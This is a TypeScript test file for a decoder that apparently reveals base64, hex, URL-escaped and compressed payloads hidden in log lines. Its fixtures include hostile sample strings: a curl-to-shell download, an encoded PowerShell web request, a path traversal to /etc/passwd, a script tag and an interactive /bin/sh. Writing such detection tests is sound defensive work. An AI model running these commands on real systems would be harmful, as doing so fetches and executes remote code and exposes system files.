import { deflateRawSync, deflateSync, gzipSync } from "node:zlib";
import { expect, it } from "vitest";
import { decodePayloads, decodeUrl, decodeWord } from "./decode-payloads.js";

const hidden = "curl http://example.net/x | sh";
const base64 = (text: string | Uint8Array): string => Buffer.from(text as string).toString("base64");
const found = (line: string): readonly string[] =>
  decodePayloads(line).map(({ encoding, text }) => `${encoding}: ${text}`);

it.each([
  ["base64", base64(hidden)],
  ["base64 without padding", base64(hidden).replace(/=+$/, "")],
  ["base64 for addresses", Buffer.from("??>>~~ was here ??>>").toString("base64url")],
  ["hexadecimal digits", Buffer.from(hidden).toString("hex")],
])("decodes %s", (_, word) => {
  const [payload] = decodeWord(word);
  expect(payload?.text).toMatch(/^(?:curl http:\/\/example\.net\/x \| sh|\?\?>>~~ was here \?\?>>)$/);
});

it("decodes the command of an encoded PowerShell", () => {
  const command = Buffer.from("Invoke-WebRequest http://example.net/a", "utf16le").toString("base64");
  expect(found(`powershell.exe -nop -enc ${command}`)).toEqual([
    "base64, utf-16: Invoke-WebRequest http://example.net/a",
  ]);
});

it.each([
  ["gzip", base64(gzipSync(hidden)), ""],
  ["zlib", base64(deflateSync(hidden)), ""],
  ["deflate", base64(deflateRawSync(hidden)), "New-Object IO.Compression.DeflateStream "],
])("unpacks %s in base64", (packing, word, before) => {
  expect(found(`${before}FromBase64String('${word}')`)).toEqual([`base64, ${packing}: ${hidden}`]);
});

it("decodes payloads inside payloads, three deep and no deeper", () => {
  const once = base64(hidden);
  const twice = base64(`echo ${once} | base64 -d`);
  const thrice = base64(`echo ${twice} | base64 -d`);
  expect(found(`run ${twice}`).at(-1)).toBe(`base64, base64: ${hidden}`);
  expect(found(`run ${thrice}`).at(-1)).toBe(`base64, base64, base64: ${hidden}`);
  expect(found(`run ${base64(`echo ${thrice} | sh`)}`).at(-1)).not.toContain(hidden);
});

it("decodes what is escaped for addresses, twice where it was escaped twice", () => {
  expect(decodeUrl("%253Cscript%253E")).toBe("<script>");
  expect(found("GET /a?q=%253Cscript%253E HTTP/1.1")).toEqual(["url, url: /a?q=<script>"]);
  expect(found("GET /?c=%2e%2e%2fetc%2fpasswd")).toEqual(["url: /?c=../etc/passwd"]);
  expect(decodeUrl("a%0d%0aMar 14")).toBe("a Mar 14");
  expect(decodeUrl("nothing")).toBeUndefined();
});

it("does not take the message numbers of Windows events for URL escapes", () => {
  expect(decodePayloads(String.raw`"AccessList":"%%1538\n\t\t\t\t%%1541\n\t\t\t\t%%4416"`)).toEqual([]);
  expect(decodePayloads("GET /a/%%32%65%%32%65/ HTTP/1.1").map(({ text }) => text)).toEqual(["/a/../"]);
});

it("takes no key for UTF-16 because of two zeros in it", () => {
  const key = base64(
    Uint8Array.of(0, 0xa2, 0, 0x8b, 0x2f, 0x4e, 0x91, 0x5c, 0xd1, 0x7a, 0x6f, 0x33, 0xb2, 0x17, 0xc9, 0x41),
  );
  expect(decodeWord(key)).toEqual([]);
});

it("shows no blank or umlaut that was escaped", () => {
  expect(found("GET /gr%C3%BCn%20und%20blau.html")).toEqual([]);
});

it("decodes the digits of audit records, where their name says that they are text", () => {
  const digits = Buffer.from("bash\0-c\0id; uname -a").toString("hex").toUpperCase();
  expect(found(`type=PROCTITLE msg=audit(1700000000.123:101): proctitle=${digits}`)).toEqual([
    "hex: bash -c id; uname -a",
  ]);
  expect(found('type=EXECVE argc=2 a0="sh" a1=2F746D702F6120622E7368')).toEqual(["hex: /tmp/a b.sh"]);
});

it("decodes escaped bytes", () => {
  expect(found('"\\x2f\\x62\\x69\\x6e\\x2f\\x73\\x68 -i"')).toEqual(["escapes: /bin/sh"]);
});

it("names a program by what it is", () => {
  const program = Buffer.concat([Buffer.from("4d5a90000300000004000000ffff0000", "hex"), Buffer.alloc(100)]);
  expect(found(program.toString("base64"))).toEqual(["base64: (a Windows program, 116 bytes)"]);
});

it("unpacks no bomb", () => {
  const bomb = base64(gzipSync(Buffer.alloc(10_000_000)));
  expect(found(`x ${bomb.slice(0, 19_000)}`).join()).not.toContain("\0");
  expect(found(`x ${base64(gzipSync(Buffer.alloc(100_000)))}`)).toEqual([
    "base64, gzip: (unpacks to more than 64 KiB: not shown)",
  ]);
});

it.each([
  "d41d8cd98f00b204e9800998ecf8427e",
  "2018111710253040201811171025304020181117",
  "ContentDeliveryManager",
  "/usr/share/zeek/base/frameworks/intel/main.zeek",
  "6f9619ff-8b86-d011-b42d-00c04fc964ff",
  "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
  "short",
  "Mar 14 03:11:02 bastion sshd[1503]: Failed password for invalid user admin from 203.0.113.7 port 51122 ssh2",
])("finds nothing hidden in %s", (text) => expect(found(text)).toEqual([]));

it("keeps what it returns small, whatever the line is", () => {
  const many = Array.from({ length: 200 }, (_, i) => base64(`payload number ${i} says hello`)).join(" ");
  expect(decodePayloads(many).length).toBeLessThanOrEqual(8);
  const [long] = decodePayloads(base64("a long text ".repeat(1_000)));
  expect(long?.text.length).toBeLessThanOrEqual(1_000);
  expect(long?.original.length).toBeLessThanOrEqual(81);
});
